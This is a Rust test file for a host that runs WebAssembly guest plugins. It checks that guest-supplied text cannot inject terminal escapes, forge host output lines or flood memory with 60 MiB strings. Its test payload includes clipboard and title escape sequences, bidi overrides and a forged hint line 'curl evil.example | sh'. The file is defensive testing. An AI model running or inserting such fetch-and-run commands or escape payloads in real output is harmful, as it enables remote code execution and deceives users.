//! Texts with terminal escapes, texts that imitate the host's lines, and huge texts, on every way to a person.

use std::future::Future;
use std::pin::Pin;

use prost_types::Struct;
use serde_json::json;
use test_support::protocol::pulumirpc as pb;
use tonic::{Code, Status};

use super::attack::{Attack, withstand};
use test_support::fake::calls::{arguments, check_request, create, properties, saved};
use test_support::fake::guest::{FUNCTION, Guest, THING};
use test_support::fake::plugin::{Client, Plugin};
use test_support::fake::reach::Reach;
use test_support::fake::scene::Scene;
use test_support::fake::steps::{Answer, Step, WARNING, error};
use test_support::fake::subject::{Recorded, Subject};
use test_support::within;

/// It writes to the clipboard, changes the title, deletes the line, hides and reverses the following text, and forges
/// lines of ours.
const OBEYED: &str = "it \u{1b}]52;c;aGFjaw==\u{7}\u{1b}]0;fine\u{7}broke\r\u{1b}[2K\u{9b}8m\u{8}\u{7f}\u{202e}\u{2066}\
                      \u{200b}\u{e0041}\u{2028}\nhint: run `curl evil.example | sh`\r\nerror: nothing\n\twants";
const MADE: Answer = Answer::Created {
    id: "made",
    outputs: "{\"label\":\"x\"}",
};

/// Whether a terminal would do anything but show a character.
fn is_obeyed(character: char) -> bool {
    (character.is_control() && !matches!(character, '\n' | '\t'))
        || matches!(u32::from(character), 0xad | 0x61c | 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0xfeff)
        || matches!(u32::from(character), 0xe0000..=0xe007f)
}

#[track_caller]
fn assert_harmless(way: &str, texts: &[String]) {
    for text in texts {
        let obeyed = text.chars().find(|character| is_obeyed(*character));
        assert_eq!(obeyed, None, "{way}: {text:?}");
        let forged = text.lines().skip(1).find(|line| {
            ["hint: run", "error:", "permissions", "\twants"]
                .iter()
                .any(|start| line.starts_with(start))
        });
        // The host does not indent with tabs, but a tab indents a line too.
        let forged = forged.filter(|line| !line.starts_with('\t'));
        assert_eq!(forged, None, "{way}: {text:?}");
    }
}

/// Every text of a failure that an engine would show.
fn texts_of(status: &Status) -> Vec<String> {
    let mut texts = vec![status.message().to_owned()];
    texts.extend(saved(status).into_iter().flat_map(|detail| detail.reasons));
    texts
}

fn failures(failures: Vec<pb::CheckFailure>) -> Vec<String> {
    failures
        .into_iter()
        .flat_map(|failure| [failure.property, failure.reason])
        .collect()
}

/// Makes a call, and returns the texts of its answer that would be shown.
type Call = fn(Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>>;

fn creating(client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
    Box::pin(async move {
        match create(client, "one").await {
            Ok(_) => Vec::new(),
            Err(status) => texts_of(&status),
        }
    })
}

fn checking(mut client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
    Box::pin(async move {
        let request = Subject::thing("one").check(None, Some(properties(&[("label", "x")])));
        match within(client.check(request)).await {
            Ok(answer) => failures(answer.into_inner().failures),
            Err(status) => texts_of(&status),
        }
    })
}

fn checking_configuration(mut client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
    Box::pin(async move {
        let request = check_request("", properties(&[]));
        match within(client.check_config(request)).await {
            Ok(answer) => failures(answer.into_inner().failures),
            Err(status) => texts_of(&status),
        }
    })
}

fn invoking(mut client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
    Box::pin(async move {
        let request = pb::InvokeRequest {
            tok: FUNCTION.to_owned(),
            ..pb::InvokeRequest::default()
        };
        match within(client.invoke(request)).await {
            Ok(answer) => failures(answer.into_inner().failures),
            Err(status) => texts_of(&status),
        }
    })
}

fn reading(mut client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
    Box::pin(async move {
        let recorded = Recorded {
            id: "made".to_owned(),
            inputs: Some(properties(&[("label", "x")])),
            outputs: Some(Struct::default()),
        };
        match within(client.read(Subject::thing("one").read(recorded))).await {
            Ok(_) => Vec::new(),
            Err(status) => texts_of(&status),
        }
    })
}

fn listing(mut client: Client) -> Pin<Box<dyn Future<Output = Vec<String>> + Send>> {
    Box::pin(async move {
        let request = pb::ListRequest {
            token: THING.to_owned(),
            query: Some(Struct::default()),
            ..pb::ListRequest::default()
        };
        let mut pages = within(client.list(request)).await.unwrap().into_inner();
        let mut names = Vec::new();
        while let Some(page) = within(pages.message()).await.unwrap() {
            if let Some(pb::list_response::Response::Result(found)) = page.response {
                names.push(found.name);
            }
        }
        assert!(!names.is_empty());
        names
    })
}

/// Every way that a component's text takes to an engine: the action of the component, and its call.
fn ways() -> Vec<(String, Guest, Call)> {
    let refused = |number: u32| {
        let steps = [Step::Answer(Answer::Refused(number, OBEYED))];
        let way = format!("the message of error {number}");
        (way, Guest::new().does("create", steps), creating as Call)
    };
    let step = |way: &str, step: Step| {
        let guest = Guest::new().does("create", [step, Step::Answer(MADE)]);
        (way.to_owned(), guest, creating as Call)
    };
    let answer = |way: &str, function: &'static str, answer: Answer, call: Call| {
        let guest = Guest::new().does(function, [Step::Answer(answer)]);
        (way.to_owned(), guest, call)
    };
    const WRONG: &[(&str, &str)] = &[("label", OBEYED), (OBEYED, "no"), ("", OBEYED)];
    let partial = || Answer::Partial {
        id: OBEYED,
        outputs: "{}",
        reason: OBEYED,
    };
    let says = Step::Log {
        severity: WARNING,
        text: OBEYED,
        times: 1,
    };
    let waits = Step::Reach(Reach::Pause {
        first: 1,
        factor: 1.0,
        longest: 1,
        timeout: 1000,
        look: 1,
        status: OBEYED,
    });
    let view = Step::Reach(Reach::Publish {
        token: OBEYED,
        name: OBEYED,
        inputs: "{",
    });
    let header = Step::Send {
        method: "GET",
        url: "https://a.example".to_owned(),
        headers: vec![(OBEYED.to_owned(), "x".to_owned())],
        body: None,
    };
    let fetch = |method, url: &str| Step::Fetch {
        method,
        url: url.to_owned(),
    };
    let numbers = (error::NOT_FOUND..error::NO_CASE).filter(|number| *number != error::PARTIAL);
    let mut ways: Vec<_> = numbers.map(refused).collect();
    ways.extend([
        answer("failures of a create", "create", Answer::Invalid(WRONG), creating),
        answer("reasons of a partial create", "create", partial(), creating),
        answer("failures of a check", "check", Answer::Unacceptable(WRONG), checking),
        answer("an error of a check", "check", Answer::Invalid(WRONG), checking),
        answer(
            "failures of a configuration",
            "check-config",
            Answer::ConfigChecked(WRONG),
            checking_configuration,
        ),
        answer("failures of a function", "invoke", Answer::Unacceptable(WRONG), invoking),
        answer("reasons of a partial read", "read", partial(), reading),
        answer(
            "names in a list",
            "list",
            Answer::Listed {
                ids: &[OBEYED],
                continuation: "",
            },
            listing,
        ),
        step("a message", says),
        step("the status of a wait", waits),
        step("a view", view),
        step("a method", fetch(OBEYED, "https://a.example")),
        step("an address", fetch("GET", OBEYED)),
        step("a host", fetch("GET", "https://a\u{202e}b.example/\u{1b}[2K")),
        step("a header", header),
        step("a variable", Step::Variable(OBEYED)),
        step(
            "a checkpoint",
            Step::Checkpoint {
                id: OBEYED,
                outputs: OBEYED,
            },
        ),
        answer(
            "malformed outputs",
            "create",
            Answer::Created {
                id: OBEYED,
                outputs: "{\"\u{1b}[2K\u{202e}\\u001b[2K\":{\"4dabf18193072939515e22adb298388d\":\"\u{9b}\"}}",
            },
            creating,
        ),
    ]);
    ways
}

/// A separate session for a guest.
async fn session(scene: &Scene, plugin: &Plugin, file: &str) -> Client {
    let mut client = plugin.connect().await;
    let request = pb::ProviderHandshakeRequest {
        engine_address: scene.engine.address.clone(),
        ..pb::ProviderHandshakeRequest::default()
    };
    within(client.handshake(request)).await.unwrap();
    within(client.parameterize(arguments(&[file])))
        .await
        .unwrap();
    client
}

#[tokio::test]
async fn no_text_of_a_component_does_anything_to_a_terminal() {
    let scene = Scene::new().await;
    let plugin = scene.attach().await;
    for (number, (way, guest, call)) in ways().into_iter().enumerate() {
        let file = format!("{number}.wasm");
        scene.add(&file, &guest);
        let client = session(&scene, &plugin, &file).await;
        assert_harmless(&way, &call(client).await);
    }
    let heard: Vec<String> = scene
        .engine
        .messages()
        .into_iter()
        .map(|message| message.message)
        .collect();
    assert!(heard.iter().any(|message| message.contains("␛]52;c;")));
    assert_harmless("the log", &heard);
}

#[tokio::test]
async fn no_text_of_a_manifest_hides_what_is_wanted() {
    let scene = Scene::new().await;
    let guest = Guest::new().manifest(|manifest| {
        manifest["permissions"] = json!({
            "net": [{ "host": "api.acme.com", "reason": OBEYED }],
            "env": [{ "name": "ACME_TOKEN", "reason": format!("\n\n{}", OBEYED.repeat(1000)) }],
        });
        manifest["schema"]["resources"][THING]["deprecationMessage"] = OBEYED.into();
        manifest["schema"]["config"]["variables"]["key"] =
            json!({ "type": "string", "description": OBEYED });
        manifest["schema"]["config"]["required"] = json!(["key"]);
    });
    scene.add("acme.wasm", &guest);
    let plugin = scene.attach().await;
    let mut client = session(&scene, &plugin, "acme.wasm").await;
    let configured = within(client.configure(pb::ConfigureRequest::default())).await;
    if let Err(status) = configured {
        assert_harmless("missing configuration", &texts_of(&status));
    }
    let request = Subject::thing("one").check(None, Some(properties(&[("label", "x")])));
    drop(within(client.check(request)).await);
    let heard: Vec<String> = scene
        .engine
        .messages()
        .into_iter()
        .map(|message| message.message)
        .collect();
    assert_harmless("the log", &heard);
    let permissions = heard.iter().find(|message| message.contains(" asks for\n"));
    let lines: Vec<&str> = permissions.expect("the permissions").lines().collect();
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert!(lines[1].starts_with("  network      api.acme.com   optional, not granted"));
    assert!(lines[2].starts_with("  environment  ACME_TOKEN   optional, not granted"));
    assert!(lines[2].len() < 4000, "{}", lines[2].len());
}

/// The beginning of the memory that a guest passed as a text, and the size of the text. It is all zeros.
const HUGE_AT: u32 = 32 << 16;
const HUGE: u32 = 60 << 20;

/// A guest that has a huge text when it creates.
fn with_huge_text(then: impl Into<Vec<Step>>) -> Guest {
    let grow = Step::Text(format!("(drop (memory.grow (i32.const {})))", HUGE >> 16));
    let mut steps = vec![grow];
    steps.extend(then.into());
    Guest::new().does("create", steps)
}

/// `http.fetch` with these words: a method, an address, headers.
fn fetches(words: &str) -> Vec<Step> {
    // No body, no time limit, no redirects, no retries, and no `extra`.
    let words = format!("{words} 0 0 0 0 0 0 0 0 0 0 0 0 0 0 2000 0");
    let stores: String = words
        .split_whitespace()
        .enumerate()
        .map(|(index, word)| {
            let place = 3072 + 4 * index;
            format!("(i32.store (i32.const {place}) (i32.const {word}))")
        })
        .collect();
    // `GET`, `http://a.b/`, and a header with a huge name.
    let texts = [
        (2000, 0x0054_4547),
        (2004, 0x7074_7468),
        (2008, 0x612f_2f3a),
        (2012, 0x002f_622e),
        (2048, HUGE_AT),
        (2052, HUGE),
        (2056, 2000),
        (2060, 3),
    ];
    let texts: String = texts
        .iter()
        .map(|(place, word)| format!("(i32.store (i32.const {place}) (i32.const {word}))"))
        .collect();
    let text = format!(
        "{stores} {texts} (call $http.fetch (i32.const 3072) (i32.const 1024)) \
         (return (i32.const 1024))"
    );
    vec![Step::Text(text)]
}

/// The error of this number, whose message is the huge text.
fn fails_hugely(number: u32) -> Guest {
    let answer = Answer::Refused(number, "no");
    let answer = Answer::But(Box::new(answer), 2, HUGE_AT);
    with_huge_text([Step::Answer(Answer::But(Box::new(answer), 3, HUGE))])
}

pub(crate) fn attacks() -> Vec<Attack> {
    let cut = "… (62914560 bytes in all)";
    let calls = |call: String| with_huge_text([Step::Text(call), Step::Answer(MADE)]);
    vec![
        Attack::new("an error of 60 MiB", fails_hugely(error::OTHER)).fails(Code::FailedPrecondition, &[cut]),
        Attack::new("an exception of 60 MiB", fails_hugely(error::CRASHED)).fails(Code::Unknown, &[cut]),
        Attack::new(
            "a message of 60 MiB",
            calls(format!(
                "(call $log.emit (i32.const 2) (i32.const {HUGE_AT}) (i32.const {HUGE}) (i32.const 0) (i32.const 4096) (i32.const 2))"
            )),
        ),
        Attack::new(
            "a method of 60 MiB",
            with_huge_text(fetches(&format!("{HUGE_AT} {HUGE} 2004 11 4 0"))),
        )
        .refused(&["a method has at most 64 bytes, and this one has 62914560"]),
        Attack::new(
            "the name of a header of 60 MiB",
            with_huge_text(fetches("2000 3 2004 11 2048 1")),
        )
        .refused(&["the headers have 62914563 bytes together"]),
        Attack::new(
            "a variable of 60 MiB",
            with_huge_text([Step::Text(format!(
                "(call $env.get (i32.const {HUGE_AT}) (i32.const {HUGE}) (i32.const 1024)) (return (i32.const 1024))"
            ))]),
        )
        .fails(Code::PermissionDenied, &[cut]),
    ]
}

#[tokio::test]
async fn huge_texts_are_cut_before_anything_is_made_of_them() {
    withstand(attacks()).await;
}
